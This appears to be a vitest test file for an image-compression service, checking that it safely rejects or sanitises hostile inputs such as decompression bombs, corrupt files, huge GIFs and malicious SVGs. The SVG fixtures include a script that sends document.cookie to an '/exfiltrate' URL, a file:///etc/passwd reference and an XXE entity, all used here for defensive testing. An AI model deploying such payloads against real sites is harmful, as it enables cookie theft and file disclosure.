import { randomBytes } from "node:crypto";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { create } from "@bufbuild/protobuf";
import { createLogger } from "@imgc/common";
import { ChunkItemSchema, ChunkSchema, ErrorCode, ImageFormat, ItemState } from "@imgc/proto";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createItemProcessor } from "../process-item.js";
import { compress } from "./index.js";
import { sanitizeSvg } from "./svg.js";
import { corpusFile, declaredPng, failure, limits, options } from "./test-support.js";

describe("hostile inputs", () => {
  it("fails zero bytes and random bytes as UNSUPPORTED_FORMAT", async () => {
    expect((await failure(compress(Buffer.alloc(0), options(), limits))).code).toBe(ErrorCode.UNSUPPORTED_FORMAT);
    const noise = randomBytes(4096);
    noise[0] = 0; // never a signature by chance
    expect((await failure(compress(noise, options(), limits))).code).toBe(ErrorCode.UNSUPPORTED_FORMAT);
    expect((await failure(compress(Buffer.from("just some text\n"), options(), limits))).code).toBe(
      ErrorCode.UNSUPPORTED_FORMAT,
    );
  });

  it("reads the format from the bytes, so a wrong extension or content type changes nothing", async () => {
    // Names reach the engine only as the item's source key: run real files under lying names and types
    // through the item processor, with the real engine.
    const objects = new Map<string, { body: Buffer; contentType: string }>([
      ["imgc/uploads/t/1/photo.jpg", { body: corpusFile("photos/ihc.png"), contentType: "image/jpeg" }],
      ["imgc/uploads/t/1/scan.png", { body: corpusFile("edge/uncompressed.tiff"), contentType: "image/png" }],
      ["imgc/uploads/t/1/image.gif", { body: corpusFile("photos/rocket.jpg"), contentType: "image/gif" }],
    ]);
    const processItem = createItemProcessor({
      store: {
        async get(bucket, key) {
          const object = objects.get(`${bucket}/${key}`);
          if (!object) throw new Error(`no ${key}`);
          return object.body;
        },
        async put(bucket, key, body, contentType) {
          objects.set(`${bucket}/${key}`, { body, contentType });
        },
      },
      engine: { compress },
      limits,
      workerId: "w",
      defaultBucket: "imgc",
      log: createLogger("test", "silent"),
    });
    const chunk = create(ChunkSchema, {
      jobId: "j",
      tenant: "t",
      options: options({ format: ImageFormat.KEEP }),
      outputBucket: "imgc",
      outputPrefix: "outputs/t/j/",
    });
    const cases = [
      ["photo.jpg", ImageFormat.PNG, ImageFormat.PNG, "png"],
      ["scan.png", ImageFormat.TIFF, ImageFormat.PNG, "png"],
      ["image.gif", ImageFormat.JPEG, ImageFormat.JPEG, "jpg"],
    ] as const;
    for (const [name, inputFormat, format, extension] of cases) {
      const key = `uploads/t/1/${name}`;
      const itemId = name.replace(/\W/g, "");
      const item = create(ChunkItemSchema, {
        itemId,
        bucket: "imgc",
        key,
        size: BigInt(objects.get(`imgc/${key}`)?.body.length ?? 0),
      });
      const result = await processItem(chunk, item, new AbortController().signal);
      expect([ItemState.DONE, ItemState.KEPT_ORIGINAL], name).toContain(result.state);
      expect([name, result.inputFormat, result.format, result.outputKey]).toEqual([
        name,
        inputFormat,
        format,
        `outputs/t/j/${itemId}.${extension}`,
      ]);
      const stored = objects.get(`imgc/outputs/t/j/${itemId}.${extension}`);
      expect((await sharp(stored?.body).metadata()).format).toBe(extension === "jpg" ? "jpeg" : extension);
    }
  });

  it("fails a tiny PNG declaring 65535×65535 with PIXEL_LIMIT, from the header, without decoding", async () => {
    const bomb = declaredPng(65535, 65535);
    expect(bomb.length).toBeLessThan(200);
    const started = Date.now();
    const e = await failure(compress(bomb, options(), limits));
    expect(e.code).toBe(ErrorCode.PIXEL_LIMIT);
    expect(e.message).toMatch(/65535×65535/);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("fails a PNG whose header is fine but whose data is garbage as CORRUPT_INPUT", async () => {
    const e = await failure(compress(declaredPng(64, 64), options(), limits));
    expect(e.code).toBe(ErrorCode.CORRUPT_INPUT);
  });

  it("fails a truncated JPEG or PNG as CORRUPT_INPUT, whether it streams or decodes to memory", async () => {
    for (const file of ["photos/rocket.jpg", "photos/ihc.png"]) {
      const whole = corpusFile(file);
      const half = whole.subarray(0, whole.length / 2);
      for (const format of [ImageFormat.AUTO, ImageFormat.JPEG, ImageFormat.WEBP]) {
        const e = await failure(compress(half, options({ format }), limits));
        expect(e.code).toBe(ErrorCode.CORRUPT_INPUT);
      }
    }
  });

  it("fails a GIF with thousands of frames with FRAME_LIMIT", async () => {
    const frames = 3000;
    const gif = await sharp(Buffer.alloc(4 * 4 * 3 * frames, 128), {
      raw: { width: 4, height: 4 * frames, channels: 3, pageHeight: 4 },
    })
      .gif({ keepDuplicateFrames: true })
      .toBuffer();
    expect((await sharp(gif, { animated: true }).metadata()).pages).toBe(frames);
    const e = await failure(compress(gif, options(), limits));
    expect(e.code).toBe(ErrorCode.FRAME_LIMIT);
    expect(e.message).toMatch(/3000 frames/);
  });

  it("fails an animation whose frames add up past the pixel budget with FRAME_LIMIT, unless flattened", async () => {
    const input = corpusFile("edge/animated-10-frames.gif");
    const tight = { ...limits, maxPixels: 370 * 285 * 5 };
    expect((await failure(compress(input, options({ format: ImageFormat.WEBP }), tight))).code).toBe(
      ErrorCode.FRAME_LIMIT,
    );
    const still = await compress(input, options({ format: ImageFormat.WEBP, flattenAnimation: true }), tight);
    expect(still.kind).toBe("compressed");
  });

  it("reads the first page of a multi-page TIFF: pages are not animation frames", async () => {
    const tiff = await sharp(Buffer.alloc(8 * 24 * 3, 100), {
      raw: { width: 8, height: 24, channels: 3, pageHeight: 8 },
    })
      .tiff()
      .toBuffer();
    expect((await sharp(tiff).metadata()).pages).toBe(3);
    const out = await compress(tiff, options({ format: ImageFormat.KEEP, allowLarger: true }), {
      ...limits,
      maxFrames: 1,
    });
    expect([out.format, out.width, out.height]).toEqual([ImageFormat.PNG, 8, 8]);
  });

  it("fails HEIC, which the bundled decoder cannot read, as UNSUPPORTED_FORMAT", async () => {
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1")]);
    expect((await failure(compress(heic, options(), limits))).code).toBe(ErrorCode.UNSUPPORTED_FORMAT);
  });

  it("stops at the caller's abort signal with CANCELLED", async () => {
    const controller = new AbortController();
    controller.abort();
    const e = await failure(compress(corpusFile("photos/rocket.jpg"), options(), limits, controller.signal));
    expect(e.code).toBe(ErrorCode.CANCELLED);
  });
});

describe("SVG with external references", () => {
  let server: Server;
  let hits: string[];
  let connections = 0;
  let base: string;

  beforeAll(async () => {
    hits = [];
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#f00" } })
      .png()
      .toBuffer();
    server = createServer((req, res) => {
      hits.push(req.url ?? "");
      res.writeHead(200, { "content-type": req.url?.endsWith(".css") ? "text/css" : "image/png" });
      res.end(req.url?.endsWith(".css") ? "rect { fill: red }" : png);
    });
    server.on("connection", () => {
      connections++;
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it("renders without fetching anything, over the network or from disk", async () => {
    const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:xi="http://www.w3.org/2001/XInclude" width="64" height="64">
  <style>@import url("${base}/import.css"); rect { fill: url('${base}/paint.png') }</style>
  <image href="${base}/href.png" width="32" height="32"/>
  <image xlink:href='${base}/xlink.png' x="32" width="32" height="32"/>
  <image xlink:href="file:///etc/passwd" y="32" width="32" height="32"/>
  <rect x="32" y="32" width="32" height="32" style="fill: url(${base}/style.png)"/>
  <xi:include href="${base}/include.svg" parse="xml"/>
  <use href="#dot"/><circle id="dot" cx="8" cy="8" r="4" fill="blue"/>
</svg>`;
    // What librsvg is given names no resource outside the document: nothing it could fetch.
    const rendered = sanitizeSvg(Buffer.from(svg)).toString("utf8");
    expect(rendered).not.toContain(base);
    expect(rendered).not.toContain("file:");
    const out = await compress(Buffer.from(svg), options({ format: ImageFormat.PNG, allowLarger: true }), limits);
    expect([out.inputFormat, out.format, out.width, out.height]).toEqual([ImageFormat.SVG, ImageFormat.PNG, 64, 64]);
    // librsvg loads resources synchronously while it renders: a fetch would have connected before the render
    // returned, and the server counts connections, not just finished requests.
    expect([connections, hits]).toEqual([0, []]);
  });

  it("never stores an SVG as uploaded: script and external references never reach the output", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="256" height="256" onload="alert(1)">
<script>fetch("${base}/exfiltrate?c="+document.cookie)</script>
<defs><radialGradient id="g"><stop offset="0" stop-color="#f0a"/><stop offset="1" stop-color="#0af"/></radialGradient></defs>
<circle cx="128" cy="128" r="120" fill="url(#g)"/><image href="${base}/tracker.png" width="1" height="1"/></svg>`;
    const input = Buffer.from(svg);
    for (const format of [ImageFormat.KEEP, ImageFormat.AUTO, ImageFormat.PNG]) {
      const out = await compress(input, options({ format }), limits);
      // The raster is larger than this small SVG: never-larger would have kept the original before.
      expect([ImageFormat[format], out.kind, out.data.length > input.length]).toEqual([
        ImageFormat[format],
        "compressed",
        true,
      ]);
      expect(out.format).not.toBe(ImageFormat.SVG);
      expect(out.data.includes("<script")).toBe(false);
      // A raster: AUTO may pick AVIF (sharp names its container heif).
      expect((await sharp(out.data).metadata()).format).toMatch(/^(png|jpeg|webp|heif)$/);
    }
    expect(hits).toEqual([]);
  });

  it("refuses entity declarations (XXE, billion laughs) as UNSUPPORTED_FORMAT", async () => {
    const svg = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${base}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&x;</text></svg>`;
    expect((await failure(compress(Buffer.from(svg), options(), limits))).code).toBe(ErrorCode.UNSUPPORTED_FORMAT);
    expect(hits).toEqual([]);
  });

  it("fails an SVG declaring enormous dimensions with PIXEL_LIMIT", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"><rect width="1" height="1"/></svg>`;
    expect((await failure(compress(Buffer.from(svg), options(), limits))).code).toBe(ErrorCode.PIXEL_LIMIT);
  });
});
